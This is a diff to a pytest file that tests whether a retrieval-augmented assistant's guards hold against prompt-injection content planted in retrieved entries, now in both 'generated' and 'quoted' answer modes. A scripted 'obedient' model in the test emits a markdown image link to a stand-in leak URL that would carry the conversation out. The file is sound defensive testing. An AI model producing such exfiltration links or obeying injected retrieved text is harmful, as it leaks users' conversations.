@@ -53,15 +53,24 @@ def _echo_everything(messages) -> str:
     return f"{shown} ![x](http://127.0.0.2/leak?q=conversation) [9]"
 
 
+def _mode(mode: str) -> Settings:
+    s = Settings()
+    return s.model_copy(update={"generation": s.generation.model_copy(update={"mode": mode})})
+
+
+@pytest.mark.parametrize("mode", ["generated", "quoted"])
 @pytest.mark.parametrize(("eid", "term", "canary"), [(a[0], a[1], a[3]) for a in ATTACKS], ids=[a[0] for a in ATTACKS])
-def test_guards_hold_against_an_obedient_model(attack_retriever, eid, term, canary):
+def test_guards_hold_against_an_obedient_model(attack_retriever, eid, term, canary, mode):
     model = ScriptedChatModel(_echo_everything)
-    assistant = Assistant(attack_retriever, model, Settings())
+    assistant = Assistant(attack_retriever, model, _mode(mode))
     events = list(assistant.stream(f"What is a {term}?"))
     answer = events[-1].answer
     shown = " ".join(getattr(e, "text", "") for e in events[:-1]) + " " + answer.answer + " " + answer.instant
     assert canary not in shown
-    assert canary not in " ".join(m.content for m in model.calls[0])  # never even reached the prompt
+    if mode == "generated":
+        assert canary not in " ".join(m.content for m in model.calls[0])  # never even reached the prompt
+    else:
+        assert model.calls == [] and answer.composition in ("quoted", "summary")
     assert not LINK_OR_IMAGE.search(answer.answer)
     retrieved = {r.entry_id for r in answer.retrieved}
     assert {c.entry_id for c in answer.citations} <= retrieved
@@ -75,7 +84,8 @@ def test_guards_hold_with_the_real_model(attack_retriever, tmp_path):
     settings = Settings()
     settings = settings.model_copy(update={
         "llm": settings.llm.model_copy(update={"profile": "fast"}),
-        "generation": settings.generation.model_copy(update={"max_new_tokens": 96, "max_context_entries": 2}),
+        "generation": settings.generation.model_copy(update={"max_new_tokens": 96, "max_context_entries": 2,
+                                                             "mode": "generated"}),
     })
     assistant = Assistant(attack_retriever, make_chat_model(settings), settings)
     leaked = []
